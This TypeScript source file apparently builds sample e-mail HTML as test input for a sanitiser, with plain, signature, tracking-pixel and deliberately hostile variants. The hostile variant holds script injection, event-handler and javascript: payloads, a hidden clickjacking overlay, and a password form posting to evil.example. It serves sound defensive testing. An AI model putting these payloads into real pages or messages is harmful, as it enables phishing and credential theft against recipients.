/** Kinds of HTML that arrive by e-mail: the sample has each, so that the sanitiser has something to do. */
export type HtmlKind = 'plain' | 'signature' | 'tracked' | 'hostile';

const escape = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/**
 * An e-mail's HTML around a text, the way mail programs write it: with a remote logo, a tracking pixel, or an attempt
 * at scripts. Hostile on purpose; every address in it is of the reserved domain `.example`.
 */
export function sampleHtml(
  kind: HtmlKind,
  text: string,
  name: string,
  company: string | null,
  n: number,
): string {
  const paragraphs = text
    .split('\n')
    .map((line) => `<p style="margin:0 0 10px 0;font-family:Calibri,sans-serif">${escape(line)}</p>`)
    .join('\n');
  const signature = `<table cellpadding="0" style="border-top:1px solid #ccc"><tr><td><img src="https://mail.example/logo-${n}.png" width="96" height="32" alt="${escape(company ?? name)}"></td><td style="color:#666;font-size:12px">${escape(name)}<br>${escape(company ?? '')}<br><a href="https://www.example/">www.example</a></td></tr></table>`;
  switch (kind) {
    case 'plain':
      return `<html><body>${paragraphs}</body></html>`;
    case 'signature':
      return `<html><head><style>p{color:#222}</style></head><body>${paragraphs}${signature}</body></html>`;
    case 'tracked':
      return `<html><body>${paragraphs}${signature}<img src="https://track.example/open.gif?m=${n}" width="1" height="1" style="display:none"></body></html>`;
    case 'hostile':
      return `<html><body onload="document.title='taken'">${paragraphs}<script>window.top.location='https://evil.example/'</script><img src="x" onerror="alert(${n})"><a href="javascript:alert(${n})">invoice.pdf</a><div style="position:fixed;inset:0;z-index:9999;opacity:0"><a href="https://evil.example/sign-in">.</a></div><form action="https://evil.example/collect"><input name="password" type="password"></form><iframe src="https://evil.example/"></iframe>${signature}</body></html>`;
  }
}
